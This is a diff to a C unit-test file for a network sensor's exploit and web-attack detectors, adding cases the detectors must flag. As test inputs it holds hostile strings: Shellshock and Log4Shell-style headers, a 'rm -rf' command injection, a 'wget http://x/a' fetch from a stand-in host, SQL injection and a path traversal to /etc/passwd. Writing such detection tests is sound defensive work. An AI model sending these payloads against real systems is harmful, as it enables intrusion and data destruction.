@@ -1,5 +1,5 @@
 /* Two detectors of attacks on known weaknesses, and the text by which one of them knows them. */
-#include "sensor/detect/attack_text.h"
+#include "dissectors/attack_text.h"
 #include "sensor/detect/exploit.h"
 #include "sensor/detect/web_attack.h"
 
@@ -67,7 +67,9 @@ static struct exploit_case exploits[] = {
 	{ "the same in other letters", MESSAGE_RDP_CLIENT, "channels=ms_t120", 0.8, 0.8 },
 	{ "an upgrade of a domain from afar", MESSAGE_DCERPC_REQUEST, "interface=dsrole opnum=9",
 	  0.55, 0.7 },
-	{ "files encrypted from afar", MESSAGE_DCERPC_REQUEST, "interface=efsrpc opnum=0", 0.35,
+	{ "a file's raw form from afar", MESSAGE_DCERPC_REQUEST, "interface=efsrpc opnum=0", 0.5,
+	  0.66 },
+	{ "files encrypted from afar", MESSAGE_DCERPC_REQUEST, "interface=efsrpc opnum=4", 0.35,
 	  0.51 },
 	{ "channels of a usual client", MESSAGE_RDP_CLIENT, "channels=rdpdr channels=cliprdr", 0,
 	  0 },
@@ -237,6 +239,73 @@ static struct chain_case chains[] = {
 	  20,
 	  0.3,
 	  0.4 },
+	{ "text in a field of the head",
+	  { REQUEST(0, ATTACKER, SERVER, 1, "uri=/ attack=lookup"),
+	    RESPONSE(1, ATTACKER, SERVER, 1, "status=404") },
+	  1,
+	  SIGNAL_WEB_ATTACK,
+	  10,
+	  0.49,
+	  0.51 },
+	{ "text in a body",
+	  { REQUEST(0, ATTACKER, SERVER, 1, "uri=/a.php"),
+	    { 0, ATTACKER, SERVER, 1, MESSAGE_HTTP_BODY, false, "attack=command" },
+	    RESPONSE(1, ATTACKER, SERVER, 1, "status=200") },
+	  1,
+	  SIGNAL_WEB_ATTACK,
+	  10,
+	  0.4,
+	  0.5 },
+	{ "text, and the answer is what a command prints",
+	  { REQUEST(0, STRANGER, SERVER, 1, "uri=/a.php?cmd=id"),
+	    { 1, STRANGER, SERVER, 1, MESSAGE_HTTP_BODY, true, "command_output" } },
+	  1,
+	  SIGNAL_EXPLOIT,
+	  20,
+	  0.75,
+	  0.85 },
+	{ "inside, who is obeyed is told, and who obeys",
+	  { REQUEST(0, ATTACKER, SERVER, 1, "uri=/a.php?cmd=id"),
+	    { 1, ATTACKER, SERVER, 1, MESSAGE_HTTP_BODY, true, "command_output" } },
+	  2,
+	  SIGNAL_EXPLOIT,
+	  10,
+	  0.85,
+	  0.9 },
+	{ "such an answer alone, inside",
+	  { REQUEST(0, ATTACKER, SERVER, 1, "uri=/diagnosis"),
+	    { 1, ATTACKER, SERVER, 1, MESSAGE_HTTP_BODY, true, "command_output" } },
+	  1,
+	  SIGNAL_EXPLOIT,
+	  10,
+	  0.4,
+	  0.5 },
+	{ "a page of the web that tells of it",
+	  { REQUEST(0, ATTACKER, STRANGER, 1, "uri=/manual"),
+	    { 1, ATTACKER, STRANGER, 1, MESSAGE_HTTP_BODY, true, "command_output" } },
+	  0,
+	  0,
+	  0,
+	  0,
+	  0 },
+	{ "a stranger came, and a program is fetched from a bare address",
+	  { REQUEST(0, STRANGER, SERVER, 1, "uri=/index.html"),
+	    REQUEST(2, SERVER, "198.51.100.7", 2,
+		    "uri=/a host=198.51.100.7 user_agent=Wget/1.21") },
+	  1,
+	  SIGNAL_EXPLOIT,
+	  20,
+	  0.15,
+	  0.25 },
+	{ "the same from a place with a name",
+	  { REQUEST(0, STRANGER, SERVER, 1, "uri=/index.html"),
+	    REQUEST(2, SERVER, "198.51.100.7", 2,
+		    "uri=/a host=mirror.example.org user_agent=Wget/1.21") },
+	  0,
+	  0,
+	  0,
+	  0,
+	  0 },
 	{ "from one device to another",
 	  { REQUEST(0, ATTACKER, SERVER, 1, "uri=/../../../../etc/passwd"),
 	    RESPONSE(1, ATTACKER, SERVER, 1, "status=404") },
@@ -263,6 +332,90 @@ static void run_chain(void **state)
 		assert_true(bench.signals[0].confidence < c->below);
 		assert_true(signal_is_sound(&bench.signals[0]));
 	}
+	test_bench_stop(&bench);
+}
+
+/* Many different ones make it surer than one. */
+static void attacks_of_many_kinds_say_more(void **state)
+{
+	static struct test_bench bench;
+
+	(void)state;
+	begin(&bench, &detector_web_attack);
+	for (int i = 0; i < 12; i++) {
+		char words[80];
+		struct telling asks = REQUEST(i, ATTACKER, SERVER, (uint64_t)i + 1, words);
+		struct telling answers =
+			RESPONSE(i, ATTACKER, SERVER, (uint64_t)i + 1, "status=500");
+
+		(void)snprintf(words, sizeof(words), "uri=/i?id=%d+union+select+1", i);
+		tell(&bench, &asks);
+		tell(&bench, &answers);
+		if (i == 0)
+			assert_true(test_bench_last(&bench)->confidence < 0.3);
+	}
+	assert_true(test_bench_last(&bench)->confidence > 0.5);
+	test_bench_stop(&bench);
+}
+
+/* `status` of every answer but each tenth, for as many different pages. */
+static size_t search(int pages, const char *status)
+{
+	static struct test_bench bench;
+	size_t count;
+
+	begin(&bench, &detector_web_attack);
+	for (int i = 0; i < pages; i++) {
+		char words[40];
+		struct telling asks = REQUEST(i, ATTACKER, SERVER, 1, words);
+		struct telling answers =
+			RESPONSE(i, ATTACKER, SERVER, 1, i % 10 == 0 ? "status=200" : status);
+
+		(void)snprintf(words, sizeof(words), "uri=/page%d", i);
+		tell(&bench, &asks);
+		tell(&bench, &answers);
+	}
+	count = bench.count;
+	if (count > 0)
+		assert_int_equal(test_bench_last(&bench)->kind, SIGNAL_WEB_SCAN);
+	test_bench_stop(&bench);
+	return count;
+}
+
+static void a_search_for_pages_is_told(void **state)
+{
+	(void)state;
+	assert_int_equal(search(60, "status=404"), 1);
+	assert_int_equal(search(30, "status=404"), 0);
+	assert_int_equal(search(60, "status=200"), 0);
+}
+
+/* A call alone, and the one that was called comes to the caller. */
+static void who_was_called_comes_back(void **state)
+{
+	struct telling call = {
+		0, ATTACKER, SERVER, 1, MESSAGE_DCERPC_REQUEST, false, "interface=efsrpc opnum=4"
+	};
+	struct fact_flow back = test_flow(2, SERVER, ATTACKER, 445, TEST_TCP);
+	struct fact fact;
+	static struct test_bench bench;
+	struct observation seen;
+
+	(void)state;
+	begin(&bench, &detector_exploit);
+	back.first = test_start + 2 * NANOTIME_SECOND;
+	fact = test_fact(FACT_FLOW_NAMED, back.first, &back);
+	seen = test_seen(&fact);
+	seen.direction = DIRECTION_LATERAL;
+	seen.device = 20;
+	test_bench_show(&bench, &seen);
+	assert_int_equal(bench.count, 0);
+	tell(&bench, &call);
+	assert_true(test_bench_last(&bench)->confidence < 0.5);
+	test_bench_show(&bench, &seen);
+	assert_int_equal(bench.count, 2);
+	assert_true(test_bench_last(&bench)->confidence > 0.7);
+	assert_int_equal(test_bench_last(&bench)->device, 10);
 	test_bench_stop(&bench);
 }
 
@@ -296,6 +449,10 @@ static struct text_case texts[] = {
 	  ATTACK_TEXT_NONE },
 	{ "/print.cgi?cmd=status", ATTACK_TEXT_NONE },
 	{ "/a?b=100%25", ATTACK_TEXT_NONE },
+	{ "/shell?cd+/tmp;rm+-rf+*", ATTACK_TEXT_COMMAND },
+	{ "() { :;}; echo", ATTACK_TEXT_COMMAND },
+	{ "class.module.classLoader.resources=1", ATTACK_TEXT_COMMAND },
+	{ "/a?id=1%20AND%20SLEEP(5)", ATTACK_TEXT_QUERY },
 	{ "%", ATTACK_TEXT_NONE },
 	{ "%2", ATTACK_TEXT_NONE },
 };
@@ -307,10 +464,42 @@ static void run_text(void **state)
 	assert_int_equal(attack_text_in(c->name), c->found);
 }
 
+static struct span span_of(const char *text)
+{
+	return (struct span){ (const uint8_t *)text, strlen(text) };
+}
+
+static void heads_and_bodies(void **state)
+{
+	static const uint8_t binary[] = "\x01;wget http://x/a";
+
+	(void)state;
+	assert_int_equal(
+		attack_text_in_head(span_of("GET / HTTP/1.1\r\nX-A: ${jndi:ldap://x}\r\n")),
+		ATTACK_TEXT_LOOKUP);
+	assert_int_equal(attack_text_in_head(span_of("GET / HTTP/1.1\r\nX-A: () { :;}; x\r\n")),
+			 ATTACK_TEXT_COMMAND);
+	assert_int_equal(attack_text_in_head(span_of("GET / HTTP/1.1\r\nX-A: ${a}\r\n")),
+			 ATTACK_TEXT_NONE);
+	assert_int_equal(attack_text_in_head((struct span){ 0 }), ATTACK_TEXT_NONE);
+	assert_int_equal(attack_text_in_body(span_of("host=;wget+http://x/a")),
+			 ATTACK_TEXT_COMMAND);
+	assert_int_equal(attack_text_in_body(span_of("a=1&b=2")), ATTACK_TEXT_NONE);
+	assert_int_equal(attack_text_in_body((struct span){ binary, sizeof(binary) - 1 }),
+			 ATTACK_TEXT_NONE);
+}
+
 int main(void)
 {
-	const struct CMUnitTest plain[] = { cmocka_unit_test(a_probe_again_says_more) };
-	struct CMUnitTest tests[ARRAY_LEN(exploits) + ARRAY_LEN(chains) + ARRAY_LEN(texts) + 1];
+	const struct CMUnitTest plain[] = {
+		cmocka_unit_test(a_probe_again_says_more),
+		cmocka_unit_test(attacks_of_many_kinds_say_more),
+		cmocka_unit_test(a_search_for_pages_is_told),
+		cmocka_unit_test(who_was_called_comes_back),
+		cmocka_unit_test(heads_and_bodies),
+	};
+	struct CMUnitTest tests[ARRAY_LEN(exploits) + ARRAY_LEN(chains) + ARRAY_LEN(texts) +
+				ARRAY_LEN(plain)];
 	size_t n = ADD_ROWS(tests, exploits, run_exploit);
 
 	n += ADD_ROWS(tests + n, chains, run_chain);
